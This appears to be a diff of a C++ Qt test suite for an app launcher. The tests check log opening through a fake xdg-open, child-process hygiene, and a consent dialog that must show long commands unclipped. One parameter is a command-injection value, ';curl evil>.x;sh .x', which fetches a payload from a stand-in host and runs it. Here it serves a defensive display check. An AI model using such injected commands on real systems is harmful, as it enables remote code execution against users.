@@ -6,24 +6,29 @@
 
 #include "foundation/UClasses.h"
 #include "tunnel/ResourceType.h"
+#include "ChildState.h"
 #include "ModalDialogAnswerer.h"
 #include "RecordingLog.h"
 
 #include <QApplication>
-#include <QDesktopServices>
 #include <QDir>
 #include <QFile>
+#include <QLabel>
 #include <QMessageBox>
+#include <QPlainTextEdit>
 #include <QPushButton>
 #include <QSignalSpy>
 #include <QTemporaryDir>
+#include <QTest>
 #include <QTimer>
 
 #include <gtest/gtest.h>
 
 #include <cstdlib>
+#include <fstream>
 #include <functional>
 #include <memory>
+#include <sys/stat.h>
 #include <unistd.h>
 
 using tessal::AppLaunchConfig;
@@ -157,16 +162,33 @@ TEST(AppLaunchTest, ProgramLookupRunsNothing)
     EXPECT_EQ(QStringList{"plain"}, QDir(dir.path()).entryList(QDir::Files));
 }
 
-// Records what the desktop was asked to open.
-class OpenRecorder : public QObject
-{
-    Q_OBJECT
-public:
-    OpenRecorder() { QDesktopServices::setUrlHandler("file", this, "open"); }
-    ~OpenRecorder() override { QDesktopServices::unsetUrlHandler("file"); }
-    QList<QUrl> opened;
-public slots:
-    void open(const QUrl& url) { opened.append(url); }
+// A fake xdg-open first in PATH: it appends its argument to a list and, when
+// asked, writes down what it inherited.
+struct FakeOpener {
+    explicit FakeOpener(bool recordState = false) : savedPath(qgetenv("PATH"))
+    {
+        const std::string folder = dir.path().toStdString();
+        std::ofstream(folder + "/xdg-open")
+            << "#!/bin/sh\n"
+            << (recordState ? tessal::test::childStateCommand(folder + "/state") + "\n" : std::string())
+            << "printf '%s\\n' \"$1\" >> '" << folder << "/opened'\n";
+        ::chmod((folder + "/xdg-open").c_str(), 0755);
+        qputenv("PATH", dir.path().toUtf8() + ":" + savedPath);
+    }
+    ~FakeOpener() { qputenv("PATH", savedPath); }
+    QStringList opened() const
+    {
+        QFile file(dir.filePath("opened"));
+        return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()).split('\n', Qt::SkipEmptyParts)
+                                              : QStringList();
+    }
+    // True once count opens were recorded; the opener runs detached.
+    bool waitFor(int count) const
+    {
+        return QTest::qWaitFor([&] { return opened().size() >= count; }, 20000) && opened().size() == count;
+    }
+    QTemporaryDir dir;
+    QByteArray savedPath;
 };
 
 // A home folder of the test's own (tests run in parallel and share HOME), with an empty log.
@@ -186,15 +208,15 @@ struct OwnHome {
 TEST(AppLaunchTest, ShowLogAsksAtTheHundredthRequest)
 {
     OwnHome home;
-    OpenRecorder recorder;
+    FakeOpener opener;
     RecordingLog log;
     BrowserController controller;
     ModalDialogAnswerer answerer(QStringList{"Cancel", "OK"});
     for (int i = 1; i <= 99; ++i)
         controller.showLogFileReq();
     EXPECT_EQ(0, answerer.count());
-    ASSERT_EQ(99, recorder.opened.size());
-    EXPECT_EQ(QUrl::fromLocalFile(home.log), recorder.opened.last());
+    ASSERT_TRUE(opener.waitFor(99));
+    EXPECT_EQ(QUrl::fromLocalFile(home.log).toEncoded(), opener.opened().last());
 
     controller.showLogFileReq();  // the 100th: Cancel opens nothing
     EXPECT_EQ(1, answerer.count());
@@ -202,11 +224,11 @@ TEST(AppLaunchTest, ShowLogAsksAtTheHundredthRequest)
     EXPECT_EQ(1, log.withMessage("User clicked \"show log file\" more than 100 time(s)").size());
     controller.showLogFileReq();  // asks again; Ok opens and starts counting anew
     EXPECT_EQ(2, answerer.count());
-    EXPECT_EQ(100, recorder.opened.size());
+    EXPECT_TRUE(opener.waitFor(100));
     for (int i = 1; i <= 99; ++i)
         controller.showLogFileReq();
     EXPECT_EQ(2, answerer.count());
-    EXPECT_EQ(199, recorder.opened.size());
+    EXPECT_TRUE(opener.waitFor(199));
 }
 
 TEST(AppLaunchTest, OnlyTheUsersOwnRegularLogIsOpened)
@@ -222,19 +244,120 @@ TEST(AppLaunchTest, OnlyTheUsersOwnRegularLogIsOpened)
         SCOPED_TRACE(c.first);
         OwnHome home;
         c.second(home.log);
-        OpenRecorder recorder;
+        FakeOpener opener;
         RecordingLog log;
         BrowserController().showLogFileReq();
-        EXPECT_EQ(0, recorder.opened.size());
+        QTest::qWait(200);
+        EXPECT_EQ(0, opener.opened().size());
         EXPECT_EQ(1, log.withMessage("Log file " + home.log + " is not a regular file of the user, not opening it")
                          .size());
     }
     if (::geteuid() == 0) {
         OwnHome home;
         ASSERT_EQ(0, ::chown(home.log.toUtf8().constData(), 65534, 65534));
-        OpenRecorder recorder;
+        FakeOpener opener;
         BrowserController().showLogFileReq();
-        EXPECT_EQ(0, recorder.opened.size());
+        QTest::qWait(200);
+        EXPECT_EQ(0, opener.opened().size());
+    }
+}
+
+// The log viewer and the launched applications get nothing of this process
+// but their standard descriptors, with every signal at its default; an
+// application that has ended is reaped.
+TEST(AppLaunchTest, ChildrenGetNothingOfOursAndEndedApplicationsAreReaped)
+{
+    OwnHome home;
+    FakeOpener opener(true);
+    const std::string app = opener.dir.filePath("app").toStdString();
+    std::ofstream(app) << "#!/bin/sh\n" << tessal::test::childStateCommand(app + ".state") << "\n";
+    ::chmod(app.c_str(), 0755);
+    RecordingLog log;
+    {
+        tessal::test::StrayParentState stray;
+        BrowserController().showLogFileReq();
+        EXPECT_TRUE(tessal::qt::launchWithConsent(AppLaunchConfig{{{app, ""}}, false}, true, "Intro:"));
+    }
+    for (const std::string& state : {opener.dir.filePath("state").toStdString(), app + ".state"}) {
+        const tessal::test::ChildState inherited = tessal::test::readChildState(state);
+        EXPECT_TRUE(inherited.clean()) << state << ": " << inherited.fds;
+    }
+    const QString record = "Launched '" + QString::fromStdString(app) + "', args: , pid=";
+    const QStringList launched = log.qLines().filter(record);
+    ASSERT_EQ(1, launched.size()) << log.text();
+    const QString pid = launched.first().mid(launched.first().indexOf(record) + record.size()).trimmed();
+    EXPECT_TRUE(QTest::qWaitFor([&] { return !QFile::exists("/proc/" + pid); }, 10000)) << "left as a zombie";
+}
+
+// However long a command, and whatever the site, every character of the
+// question can be seen before the user agrees: no text is clipped, and what
+// does not fit scrolls into view.
+TEST(AppLaunchTest, ConsentShowsEveryCharacterOfALongCommand)
+{
+    const std::string params = "--profile=" + std::string(2000, 'a') + ";curl\tevil>.x;sh\t.x";
+    const QString site = "https://" + QString(250, 'h') + ".example";
+    QStringList problems;
+    QString shown;
+    QTimer look;
+    QObject::connect(&look, &QTimer::timeout, [&] {
+        auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
+        if (box == nullptr || !box->isVisible() || !shown.isEmpty())
+            return;
+        for (QLabel* label : box->findChildren<QLabel*>()) {
+            if (!label->isVisible() || label->text().isEmpty())
+                continue;
+            shown += label->text();
+            if (label->minimumSizeHint().width() > label->width())
+                problems << "clipped: " + label->text().left(30);
+        }
+        for (QPlainTextEdit* view : box->findChildren<QPlainTextEdit*>()) {
+            if (!view->isVisible())
+                continue;
+            shown += view->toPlainText();
+            for (int at = 0, end = static_cast<int>(view->toPlainText().size()); at <= end; at = at < end ? std::min(at + 97, end) : end + 1) {
+                QTextCursor cursor(view->document());
+                cursor.setPosition(at);
+                view->setTextCursor(cursor);
+                view->ensureCursorVisible();
+                if (!view->viewport()->rect().contains(view->cursorRect().center()))
+                    problems << "out of reach: " + QString::number(at);
+            }
+        }
+    });
+    look.start(0);
+    RecordingLauncher launcher;
+    ModalDialogAnswerer answerer("Cancel");
+    EXPECT_FALSE(tessal::qt::launchWithConsent(AppLaunchConfig{{{"/opt/app", params}}, false}, false,
+                                               BrowserController::launchQuestionText(site, "apps", false, false)));
+    ASSERT_EQ(1, answerer.count());
+    EXPECT_TRUE(problems.isEmpty()) << problems.join('\n').toStdString();
+    EXPECT_TRUE(shown.contains(tessal::qt::visibleText(QString::fromStdString(params)))) << shown.toStdString();
+    EXPECT_TRUE(shown.contains(site));
+}
+
+// Only a pressed Ok launches; a box ended any other way refuses.
+TEST(AppLaunchTest, OnlyAPressedOkLaunches)
+{
+    const std::pair<const char*, std::function<void(QWidget*)>> endings[] = {
+        {"OK", nullptr},
+        {"Cancel", nullptr},
+        {"closed by the window manager", [](QWidget* box) { box->close(); }},
+        {"hidden", [](QWidget* box) { box->hide(); }},
+        {"application quit", [](QWidget*) { QCoreApplication::exit(0); }},  // last: later loops would end at once
+    };
+    for (const auto& [how, end] : endings) {
+        SCOPED_TRACE(how);
+        ModalDialogAnswerer answerer(end ? "none" : how);
+        QTimer outside;
+        QObject::connect(&outside, &QTimer::timeout, [end = end] {
+            if (QWidget* box = QApplication::activeModalWidget(); box != nullptr && end)
+                end(box);
+        });
+        outside.start(0);
+        RecordingLauncher launcher;
+        const bool pressedOk = std::string(how) == "OK";
+        EXPECT_EQ(pressedOk, tessal::qt::launchWithConsent(AppLaunchConfig{{{"/opt/app", "-x"}}, false}, false, "Intro:"));
+        EXPECT_EQ(pressedOk ? 1u : 0u, launcher.commands.size());
     }
 }
 
@@ -368,4 +491,3 @@ TEST(AppLaunchTest, PowerNotes)
 
 } // namespace
 
-#include "app_launch_test.moc"
